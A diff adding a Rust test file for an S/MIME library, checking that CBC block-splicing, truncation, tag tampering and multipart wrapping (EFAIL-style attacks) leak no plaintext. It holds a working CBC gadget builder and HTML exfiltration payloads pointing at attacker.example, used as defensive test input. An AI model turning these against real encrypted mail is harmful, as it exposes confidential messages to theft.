@@ -1,0 +1,711 @@
+//! What an attacker who holds a ciphertext and writes a mail around it gets: nothing.
+//!
+//! CBC lets whoever knows one block of the plaintext write blocks of their own choice into it, with
+//! a block of noise before each (EFAIL, CVE-2017-17688 and CVE-2017-17689). None of it must leave
+//! under the strict policy, and none of it under the standard one where a signature was inside; and
+//! plaintext never stands beside parts that came from elsewhere.
+
+#![allow(
+    clippy::unwrap_used,
+    clippy::indexing_slicing,
+    reason = "a test that is wrong about its own input must fail"
+)]
+
+mod common;
+
+use smime::{
+    Cipher, Coverage, Draft, Layer, Message, Mode, Policy, SignedForm, Verdict,
+    crypto::{
+        ContentCipher,
+        asn1::{Tag, Writer},
+        fastest,
+    },
+    io::Source,
+    mime::SmimeType,
+};
+use smime_testkit::TestKey;
+
+use common::{
+    ALICE, BOB, SECRET, World, cms_of, contains, draft, encryption, entity, expected_entity,
+    mail_around, node, nodes, octets,
+};
+
+#[test]
+fn altered_cbc_gives_nothing_under_strict() {
+    let world = world();
+    for cipher in CBC {
+        let stolen = Stolen::from(&world.seal(&encrypted(&letter(), cipher)));
+        for (what, attack) in attacks(&stolen, &expected_entity(&letter())) {
+            let error = world
+                .receiver(Policy::strict())
+                .open(&*attack.enveloped())
+                .unwrap_err();
+            let code = error.code();
+            assert!(
+                ["engine.withheld", "engine.decrypt_failed"].contains(&code),
+                "{code}: {what}"
+            );
+            assert!(!format!("{error:?}").contains(SECRET), "{what}");
+        }
+    }
+}
+
+#[test]
+fn altered_cbc_is_never_called_authenticated_or_signed_under_standard() {
+    let world = world();
+    let mut chosen = 0;
+    for cipher in CBC {
+        let stolen = Stolen::from(&world.seal(&encrypted(&letter(), cipher)));
+        for (what, attack) in attacks(&stolen, &expected_entity(&letter())) {
+            match world.open(&attack.enveloped()) {
+                Ok(opened) => {
+                    assert_eq!(
+                        encryption(opened.layers()),
+                        Some((Some(cipher), false)),
+                        "{what}"
+                    );
+                    assert_eq!(opened.signature(), Verdict::None, "{what}");
+                    chosen += u32::from(contains(&entity(&opened), b"<img src"));
+                }
+                Err(error) => assert_eq!(error.code(), "engine.decrypt_failed", "{what}"),
+            }
+        }
+    }
+    assert!(chosen > 0, "the attacks are none");
+}
+
+#[test]
+fn noise_in_a_header_keeps_everything_inside() {
+    // A chosen header needs more than the one block that comes without noise.
+    let world = world();
+    let stolen = Stolen::from(&world.seal(&encrypted(&letter(), ContentCipher::Aes256Cbc)));
+    let plaintext = expected_entity(&letter());
+    for header in [
+        "Content-Type: text/html\r\n\r\n<img src=\"http://attacker.example/",
+        "Content-Type: multipart/mixed; boundary=x\r\n\r\n--x\r\nContent-Type: text/html\r\n\r\n<a href='",
+    ] {
+        let mut blocks = Vec::new();
+        for wanted in header.as_bytes().chunks(BLOCK) {
+            blocks.extend(stolen.gadget(&plaintext, wanted));
+        }
+        let mut attack = stolen.clone();
+        // The first block of a gadget as the vector: its noise is gone.
+        attack.iv = blocks.remove(0);
+        attack.set_blocks(&[blocks, stolen.blocks()].concat());
+        for policy in [Policy::standard(), Policy::strict(), Policy::archive()] {
+            let error = world
+                .receiver(policy)
+                .open(&*attack.enveloped())
+                .unwrap_err();
+            assert_eq!(error.code(), "engine.decrypt_failed", "{header:?}");
+        }
+    }
+}
+
+#[test]
+fn a_cut_message_gives_nothing_although_its_padding_is_right() {
+    let world = world();
+    let letter = multipart_letter();
+    let plaintext = expected_entity(&letter);
+    let stolen = Stolen::from(&world.seal(&encrypted(&letter, ContentCipher::Aes256Cbc)));
+    let padded = stolen.gadget(&plaintext, &[u8::try_from(BLOCK).unwrap(); BLOCK]);
+    for kept in 0..stolen.blocks().len() {
+        let mut attack = stolen.clone();
+        attack.set_blocks(&[&stolen.blocks()[..kept], &padded].concat());
+        for policy in [Policy::standard(), Policy::strict()] {
+            let end = (kept + 1) * BLOCK;
+            match world.receiver(policy.clone()).open(&*attack.enveloped()) {
+                Err(error) => {
+                    let expected = ["engine.decrypt_failed", "engine.withheld"];
+                    assert!(expected.contains(&error.code()), "{error}");
+                    // Withheld tells that the padding was right, nothing more.
+                    assert!(
+                        error.code() != expected[1] || policy.messages == Policy::strict().messages
+                    );
+                }
+                // Nothing but what follows the last boundary is missing.
+                Ok(_) => assert!(contains(
+                    &plaintext[..end.min(plaintext.len())],
+                    b"--part--"
+                )),
+            }
+        }
+    }
+}
+
+#[test]
+fn an_altered_envelope_around_a_signature_gives_nothing() {
+    let world = world();
+    for form in [SignedForm::Detached, SignedForm::Opaque] {
+        for cipher in CBC {
+            let mut draft = encrypted(&letter(), cipher);
+            (draft.sign, draft.form) = (Mode::Always, form);
+            let sealed = world.seal(&draft);
+            let stolen = Stolen::from(&sealed);
+            let plaintext = stolen.decrypted(&world);
+            let header = plaintext
+                .windows(4)
+                .position(|it| it == b"\r\n\r\n")
+                .unwrap()
+                + 4;
+            for (what, attack) in attacks(&stolen, &plaintext) {
+                let keeps_header = attack.iv == stolen.iv
+                    && attack
+                        .ciphertext
+                        .starts_with(&stolen.ciphertext[..header + BLOCK]);
+                for policy in [Policy::standard(), Policy::strict()] {
+                    let what = format!("{what}, {form:?}");
+                    let opened = world.receiver(policy).open(&*attack.enveloped());
+                    check_signed_inside(opened, cipher, keeps_header, &what);
+                }
+            }
+        }
+    }
+}
+
+/// Nothing but the signed content leaves, as long as anything inside claims to be signed.
+fn check_signed_inside(
+    opened: Result<Message, smime::Error>,
+    cipher: ContentCipher,
+    keeps_header: bool,
+    what: &str,
+) {
+    let opened = match opened {
+        Ok(opened) => opened,
+        Err(error) => {
+            let is_refused = error.code() == "engine.decrypt_failed";
+            assert!(
+                is_refused || !keeps_header && error.code() == "engine.withheld",
+                "{what}"
+            );
+            // What a mangled inside claims about itself is not told either.
+            assert!(
+                error
+                    .layers
+                    .iter()
+                    .all(|it| matches!(it, Layer::Encrypted { .. })),
+                "{what}"
+            );
+            return;
+        }
+    };
+    if opened.signature() == Verdict::Good {
+        assert_eq!(entity(&opened), expected_entity(&letter()), "{what}");
+        return;
+    }
+    assert!(!keeps_header, "content of an altered envelope left: {what}");
+    assert_eq!(opened.signature(), Verdict::None, "{what}");
+    assert_eq!(
+        encryption(opened.layers()),
+        Some((Some(cipher), false)),
+        "{what}"
+    );
+}
+
+#[test]
+fn a_signature_hidden_by_one_block_is_withheld_under_strict_and_flagged_under_standard() {
+    let world = world();
+    let mut draft = encrypted(&letter(), ContentCipher::Aes256Cbc);
+    draft.sign = Mode::Always;
+    let stolen = Stolen::from(&world.seal(&draft));
+    let plaintext = stolen.decrypted(&world);
+    let mut attack = stolen.clone();
+    attack.iv = xor(&xor(&stolen.iv, &plaintext), b"X-Nothing: a; mu");
+    let error = world
+        .receiver(Policy::strict())
+        .open(&*attack.enveloped())
+        .unwrap_err();
+    assert_eq!(error.code(), "engine.withheld");
+    // Nothing tells such a message from one that was never signed.
+    let opened = world.open(&attack.enveloped()).unwrap();
+    assert_eq!(opened.signature(), Verdict::None);
+    assert_eq!(
+        encryption(opened.layers()),
+        Some((Some(ContentCipher::Aes256Cbc), false))
+    );
+}
+
+#[test]
+fn a_signature_of_somebody_else_around_altered_cbc_vouches_for_nothing() {
+    let world = world();
+    let plain = Stolen::from(&world.seal(&encrypted(&letter(), ContentCipher::Aes256Cbc)));
+    let mut draft = encrypted(&letter(), ContentCipher::Aes256Cbc);
+    draft.sign = Mode::Always;
+    let signed = Stolen::from(&world.seal(&draft));
+    let bodies = [
+        (&plain, expected_entity(&letter())),
+        (&signed, signed.decrypted(&world)),
+    ];
+    for form in [SignedForm::Detached, SignedForm::Opaque] {
+        for (number, (stolen, plaintext)) in bodies.iter().enumerate() {
+            for (what, attack) in attacks(stolen, plaintext) {
+                // Whoever signs here has a certificate that is as good as any.
+                let mut around = common::draft(&attack.enveloped());
+                (around.sign, around.form) = (Mode::Always, form);
+                let mail = world.seal(&around);
+                let strict = world.receiver(Policy::strict()).open(&*mail);
+                if let Ok(opened) = &strict {
+                    assert_eq!(number, 1, "{what}");
+                    assert_eq!(entity(opened), expected_entity(&letter()), "{what}");
+                }
+                if let Ok(opened) = world.open(&mail) {
+                    let is_whole = entity(&opened) == expected_entity(&letter());
+                    let vouched = encryption(opened.layers()).unwrap().1;
+                    assert!(!vouched || is_whole && number == 1, "{what}, {form:?}");
+                }
+            }
+        }
+    }
+}
+
+#[test]
+fn a_ciphertext_among_parts_of_other_origin_stays_closed() {
+    let world = world();
+    for cipher in ContentCipher::ALL {
+        for sign in [Mode::Never, Mode::Always] {
+            let mut draft = encrypted(&letter(), cipher);
+            draft.sign = sign;
+            let sealed = world.seal(&draft);
+            for (what, body) in neighbours(&sealed) {
+                for policy in [Policy::standard(), Policy::strict(), Policy::archive()] {
+                    let engine = world.receiver(policy);
+                    let mail = [
+                        b"From: mallory@example.com\r\nTo: bob@example.org\r\n",
+                        &body[..],
+                    ]
+                    .concat();
+                    let opened = engine.open(&*mail).unwrap();
+                    check_closed(&opened, &what);
+                }
+                // Encrypted again, as anybody can to Bob, or signed again, as anybody can at all.
+                let mail = [
+                    b"From: alice@example.com\r\nTo: bob@example.org\r\n",
+                    &body[..],
+                ]
+                .concat();
+                for (sign, encrypt) in [
+                    (Mode::Never, Mode::Always),
+                    (Mode::Always, Mode::Never),
+                    (Mode::Always, Mode::Always),
+                ] {
+                    let mut around = encrypted(&mail, ContentCipher::Aes256Gcm);
+                    (around.sign, around.encrypt) = (sign, encrypt);
+                    let opened = world.open(&world.seal(&around)).unwrap();
+                    check_closed(&opened, &what);
+                }
+            }
+        }
+    }
+}
+
+/// The part is named and its content is nowhere.
+fn check_closed(opened: &Message, what: &str) {
+    let inside = entity(opened);
+    assert!(!contains(&inside, SECRET.as_bytes()), "{what}");
+    assert!(contains(&inside, b"attacker.example"), "{what}");
+    let is_named = opened.layers().iter().any(|layer| {
+        matches!(
+            layer,
+            Layer::Encrypted {
+                coverage: Coverage::Part,
+                authenticated: false,
+                recipient: None,
+                ..
+            }
+        )
+    });
+    assert!(is_named, "{what}");
+}
+
+#[test]
+fn a_body_in_pieces_around_a_ciphertext_is_no_ciphertext() {
+    let world = world();
+    let sealed = world.seal(&encrypted(&letter(), ContentCipher::Aes256Gcm));
+    let body = body_of(&sealed);
+    let header = &sealed[..sealed.len() - body.len()];
+    for (before, after) in [
+        ("<img src=\"http://attacker.example/", "\">"),
+        ("", "<img src=\"http://attacker.example/\">\r\n"),
+        ("text\r\n", ""),
+        (
+            "--x\r\nContent-Type: text/html\r\n\r\n<p>\r\n--x\r\n",
+            "--x--\r\n",
+        ),
+    ] {
+        let mail = [header, before.as_bytes(), body, after.as_bytes()].concat();
+        let Ok(opened) = world.open(&mail) else {
+            continue;
+        };
+        // Text that follows the padding is not read; nothing of it is in the content.
+        assert_eq!(before, "");
+        assert_eq!(entity(&opened), expected_entity(&letter()));
+    }
+}
+
+#[test]
+fn an_authenticated_ciphertext_under_another_name_gives_nothing() {
+    let world = world();
+    for cipher in [ContentCipher::Aes128Gcm, ContentCipher::Aes256Gcm] {
+        let stolen = Stolen::from(&world.seal(&encrypted(&letter(), cipher)));
+        assert!(!stolen.tag.is_empty());
+        let mut attacks = vec![stolen.enveloped()];
+        for other in ContentCipher::ALL {
+            // The block that the counter mode starts from, and one of nothing.
+            let counter = [&stolen.iv[..], &[0, 0, 0, 2]].concat();
+            for iv in [counter, vec![0; BLOCK], stolen.iv.clone()] {
+                let mut attack = Stolen {
+                    cipher: other,
+                    iv,
+                    ..stolen.clone()
+                };
+                if attack.iv.len() == other.iv_length() {
+                    attacks.push(attack.enveloped());
+                    attacks.extend((other != cipher).then(|| attack.auth_enveloped()));
+                    // In whole blocks, padded and not.
+                    let whole = attack.ciphertext.len() / BLOCK * BLOCK;
+                    attack.ciphertext.truncate(whole);
+                    attacks.push(attack.enveloped());
+                    attacks.push(attack.auth_enveloped());
+                    attack.ciphertext.extend([16; BLOCK]);
+                    attacks.push(attack.enveloped());
+                }
+            }
+        }
+        for attack in attacks {
+            for policy in [Policy::standard(), Policy::strict(), Policy::archive()] {
+                let error = world.receiver(policy).open(&*attack).unwrap_err();
+                assert!(!format!("{error} {error:?}").contains(SECRET));
+            }
+        }
+    }
+}
+
+#[test]
+fn an_authenticated_ciphertext_needs_its_whole_tag_and_all_of_itself() {
+    let world = world();
+    let stolen = Stolen::from(&world.seal(&encrypted(&letter(), ContentCipher::Aes256Gcm)));
+    let mut attacks = Vec::new();
+    for length in 0..stolen.tag.len() {
+        let tag = stolen.tag[..length].to_vec();
+        attacks.push(Stolen {
+            tag,
+            ..stolen.clone()
+        });
+    }
+    let longer = [&stolen.tag[..], &[0]].concat();
+    attacks.push(Stolen {
+        tag: longer,
+        ..stolen.clone()
+    });
+    for length in 0..stolen.ciphertext.len() {
+        let ciphertext = stolen.ciphertext[..length].to_vec();
+        attacks.push(Stolen {
+            ciphertext,
+            ..stolen.clone()
+        });
+    }
+    for added in 1..=2 * BLOCK {
+        let ciphertext = [&stolen.ciphertext[..], &vec![0; added]].concat();
+        attacks.push(Stolen {
+            ciphertext,
+            ..stolen.clone()
+        });
+    }
+    for at in 0..stolen.ciphertext.len() {
+        let mut attack = stolen.clone();
+        attack.ciphertext[at] ^= 0x20;
+        attacks.push(attack);
+    }
+    for attack in attacks {
+        let error = world.open(&attack.auth_enveloped()).unwrap_err();
+        assert_eq!(error.code(), "engine.decrypt_failed");
+    }
+    assert!(world.open(&stolen.auth_enveloped()).is_ok());
+}
+
+/// The parts of an envelope, to be put together otherwise.
+#[derive(Clone)]
+struct Stolen {
+    infos: Vec<u8>,
+    cipher: ContentCipher,
+    iv: Vec<u8>,
+    ciphertext: Vec<u8>,
+    tag: Vec<u8>,
+}
+
+impl Stolen {
+    fn from(mail: &[u8]) -> Self {
+        let cms = cms_of(mail);
+        let nodes = nodes(&cms);
+        let algorithm = &cms[node(&nodes, &[1, 0, 2, 1]).whole];
+        let (cipher, iv, tag_length) = ContentCipher::from_identifier(algorithm).unwrap();
+        let tag = match tag_length {
+            0 => Vec::new(),
+            _ => cms[node(&nodes, &[1, 0, 3]).content].to_vec(),
+        };
+        Self {
+            infos: cms[node(&nodes, &[1, 0, 1]).whole].to_vec(),
+            cipher,
+            iv,
+            ciphertext: octets(&cms, &nodes, &[1, 0, 2, 2]),
+            tag,
+        }
+    }
+
+    /// A mail around it as EnvelopedData (RFC 5652 §6.1).
+    fn enveloped(&self) -> Vec<u8> {
+        mail_around(
+            &self.object(ENVELOPED_DATA, 2, &[]),
+            SmimeType::EnvelopedData,
+        )
+    }
+
+    /// A mail around it as AuthEnvelopedData (RFC 5083 §2.1).
+    fn auth_enveloped(&self) -> Vec<u8> {
+        let mac = Writer::encode(|w| w.octet_string(&self.tag));
+        mail_around(
+            &self.object(AUTH_ENVELOPED_DATA, 0, &mac),
+            SmimeType::AuthEnvelopedData,
+        )
+    }
+
+    fn object(&self, object_type: &[u8], version: u32, last: &[u8]) -> Vec<u8> {
+        Writer::encode(|w| {
+            w.sequence(|w| {
+                w.raw(object_type);
+                w.constructed(Tag::context_constructed(0), |w| {
+                    w.sequence(|w| {
+                        w.small(version);
+                        w.raw(&self.infos);
+                        w.sequence(|w| {
+                            w.raw(DATA);
+                            w.raw(&self.cipher.identifier(&self.iv));
+                            w.element(Tag::context(0), &self.ciphertext);
+                        });
+                        w.raw(last);
+                    });
+                });
+            });
+        })
+    }
+
+    fn blocks(&self) -> Vec<Vec<u8>> {
+        self.ciphertext.chunks(BLOCK).map(<[u8]>::to_vec).collect()
+    }
+
+    fn set_blocks(&mut self, blocks: &[Vec<u8>]) {
+        self.ciphertext = blocks.concat();
+    }
+
+    /// Two blocks that decrypt to noise and to what is wanted, from the one known block.
+    fn gadget(&self, plaintext: &[u8], wanted: &[u8]) -> Vec<Vec<u8>> {
+        let mut padded = wanted.to_vec();
+        padded.resize(BLOCK, b' ');
+        vec![
+            xor(&xor(&self.iv, plaintext), &padded),
+            self.ciphertext[..BLOCK].to_vec(),
+        ]
+    }
+
+    fn decrypted(&self, world: &World) -> Vec<u8> {
+        let cms = cms_of(&self.enveloped());
+        let read = smime::cms::read(Source::from_bytes(cms), &smime::io::Limits::default());
+        let smime::cms::Object::Enveloped(envelope) = read.unwrap() else {
+            panic!("not an envelope");
+        };
+        let engine = world.receiver(Policy::standard());
+        let key = world.bob.private_key();
+        let (_, content) = engine
+            .decrypt(&envelope, &world.bob.certificate, &key)
+            .unwrap();
+        content.read_to_vec("content of a test", 1 << 20).unwrap()
+    }
+}
+
+/// What can be made of a CBC ciphertext whose beginning is known; the ciphertext itself is not
+/// among it.
+fn attacks(stolen: &Stolen, plaintext: &[u8]) -> Vec<(String, Stolen)> {
+    let blocks = stolen.blocks();
+    let mut attacks = Vec::new();
+    let mut add = |what: String, blocks: &[Vec<u8>]| {
+        let mut attack = stolen.clone();
+        attack.set_blocks(blocks);
+        if attack.ciphertext != stolen.ciphertext {
+            attacks.push((what, attack));
+        }
+    };
+    // Long ones at their beginning and at their end alone, which is where structure is.
+    let places = (0..blocks.len()).filter(|at| *at < 24 || at + 8 > blocks.len());
+    let quotes: [&[u8]; 4] = [
+        b"<img src=\"//e.ex",
+        b"\r\n\r\n<img src='",
+        b"\">",
+        b"\r\n--x\r\n\r\n<p>",
+    ];
+    for at in places.clone() {
+        let what = |how: &str| format!("block {at} of {} {how}", blocks.len());
+        let mut flipped = blocks.clone();
+        flipped[at][at % BLOCK] ^= 0x20;
+        add(what("flipped"), &flipped);
+        add(what("and all after it cut"), &blocks[..at]);
+        add(what("and all after it alone"), &blocks[at..]);
+        let mut without = blocks.clone();
+        without.remove(at);
+        add(what("left out"), &without);
+        let mut twice = blocks.clone();
+        twice.insert(at, blocks[at].clone());
+        add(what("twice"), &twice);
+        let mut swapped = blocks.clone();
+        swapped.swap(at, (at + 1) % blocks.len());
+        add(what("swapped with the next"), &swapped);
+        let mut swapped = blocks.clone();
+        swapped.swap(at, blocks.len() - 1);
+        add(what("swapped with the last"), &swapped);
+        for quote in quotes {
+            let mut spliced = blocks.clone();
+            spliced.splice(at..at, stolen.gadget(plaintext, quote));
+            add(what("after a chosen one"), &spliced);
+        }
+    }
+    add(
+        "the whole twice".to_owned(),
+        &[&blocks[..], &blocks].concat(),
+    );
+    for quote in quotes {
+        let gadget = stolen.gadget(plaintext, quote);
+        add(
+            "a chosen block at the end".to_owned(),
+            &[&blocks[..], &gadget].concat(),
+        );
+        let end = &blocks[blocks.len() - 2..];
+        add(
+            "and the end again".to_owned(),
+            &[&blocks[..], &gadget, end].concat(),
+        );
+    }
+    for at in 0..BLOCK {
+        for mask in [0x01, 0x20, 0xff] {
+            let mut attack = stolen.clone();
+            attack.iv[at] ^= mask;
+            attacks.push((format!("vector changed at {at} by {mask}"), attack));
+        }
+    }
+    let wanted: &[u8] = b"A:\r\n\r\n<img src='/";
+    let iv = xor(&xor(&stolen.iv, plaintext), wanted);
+    attacks.push((
+        "vector chosen".to_owned(),
+        Stolen {
+            iv,
+            ..stolen.clone()
+        },
+    ));
+    attacks
+}
+
+/// Entities in which a ciphertext stands among parts that its reader would join it with.
+fn neighbours(sealed: &[u8]) -> Vec<(String, Vec<u8>)> {
+    let body = body_of(sealed);
+    let cipher = "Content-Type: application/pkcs7-mime; smime-type=enveloped-data; name=smime.p7m\r\n\
+                  Content-Transfer-Encoding: base64\r\n\r\n";
+    let part = [cipher.as_bytes(), body].concat();
+    let html = |text: &str| format!("Content-Type: text/html\r\n\r\n{text}\r\n").into_bytes();
+    let (open, close) = (html("<img src=\"http://attacker.example/"), html("\">"));
+    let mut entities = Vec::new();
+    for kind in ["mixed", "related", "alternative", "parallel", "unheard-of"] {
+        for order in [
+            vec![&open, &part, &close],
+            vec![&part, &open],
+            vec![&open, &part],
+        ] {
+            let entity = multipart(kind, &order.iter().map(|it| &it[..]).collect::<Vec<_>>());
+            entities.push((format!("{} parts of {kind}", order.len()), entity));
+        }
+    }
+    let message = [
+        b"From: a@attacker.example\r\nMIME-Version: 1.0\r\n",
+        &part[..],
+    ]
+    .concat();
+    let attached = [b"Content-Type: message/rfc822\r\n\r\n", &message[..]].concat();
+    entities.push((
+        "attached".to_owned(),
+        multipart("mixed", &[&open, &attached, &close]),
+    ));
+    let deep = multipart_within("inner", "alternative", &[&open, &part]);
+    entities.push(("deep".to_owned(), multipart("related", &[&deep, &close])));
+    let octets = "Content-Type: application/octet-stream; name=\"smime.p7m\"\r\n\
+                  Content-Transfer-Encoding: base64\r\n\r\n";
+    let octets = [octets.as_bytes(), body].concat();
+    entities.push((
+        "as a file".to_owned(),
+        multipart("mixed", &[&open, &octets, &close]),
+    ));
+    entities
+}
+
+fn multipart(kind: &str, parts: &[&[u8]]) -> Vec<u8> {
+    multipart_within("outer", kind, parts)
+}
+
+fn multipart_within(boundary: &str, kind: &str, parts: &[&[u8]]) -> Vec<u8> {
+    let mut entity = format!(
+        "MIME-Version: 1.0\r\nContent-Type: multipart/{kind}; boundary={boundary}\r\n\r\n\
+         http://attacker.example/\r\n"
+    )
+    .into_bytes();
+    for part in parts {
+        entity.extend_from_slice(format!("--{boundary}\r\n").as_bytes());
+        entity.extend_from_slice(part);
+        entity.extend_from_slice(b"\r\n");
+    }
+    let end = format!("--{boundary}--\r\nhttp://attacker.example/\r\n");
+    entity.extend_from_slice(end.as_bytes());
+    entity
+}
+
+fn body_of(mail: &[u8]) -> &[u8] {
+    let end = mail.windows(4).position(|it| it == b"\r\n\r\n").unwrap();
+    &mail[end + 4..]
+}
+
+/// A text with the secret at its beginning, its end and in between.
+fn letter() -> Vec<u8> {
+    format!(
+        "From: {ALICE}\r\nTo: {BOB}\r\nContent-Type: text/plain; charset=us-ascii\r\n\r\n\
+         {SECRET}\r\n\r\nSag es keinem weiter, auch deinem Bruder nicht.\r\n{SECRET}\r\n\
+         Bring einen Spaten mit, und komm nicht vor Mitternacht.\r\n{SECRET}\r\n"
+    )
+    .into_bytes()
+}
+
+/// A mail whose end is known by its boundary.
+fn multipart_letter() -> Vec<u8> {
+    format!(
+        "From: {ALICE}\r\nTo: {BOB}\r\nContent-Type: multipart/mixed; boundary=part\r\n\r\n\
+         --part\r\n\r\n{SECRET}\r\n--part\r\nContent-Type: text/html\r\n\r\n<p>{SECRET}\r\n--part--\r\n"
+    )
+    .into_bytes()
+}
+
+fn encrypted(mail: &[u8], cipher: ContentCipher) -> Draft {
+    let mut draft = draft(mail);
+    (draft.encrypt, draft.cipher) = (Mode::Always, Cipher::Only(cipher));
+    draft
+}
+
+fn world() -> World {
+    World::new(TestKey::P256A, TestKey::P256A, fastest())
+}
+
+fn xor(a: &[u8], b: &[u8]) -> Vec<u8> {
+    a.iter().zip(b).map(|(a, b)| a ^ b).collect()
+}
+
+const CBC: [ContentCipher; 2] = [ContentCipher::Aes128Cbc, ContentCipher::Aes256Cbc];
+
+const BLOCK: usize = 16;
+
+/// The DER of the object identifiers id-data, id-envelopedData and id-ct-authEnvelopedData.
+const DATA: &[u8] = &[6, 9, 0x2a, 0x86, 0x48, 0x86, 0xf7, 0x0d, 1, 7, 1];
+const ENVELOPED_DATA: &[u8] = &[6, 9, 0x2a, 0x86, 0x48, 0x86, 0xf7, 0x0d, 1, 7, 3];
+const AUTH_ENVELOPED_DATA: &[u8] = &[6, 11, 0x2a, 0x86, 0x48, 0x86, 0xf7, 0x0d, 1, 9, 16, 1, 23];
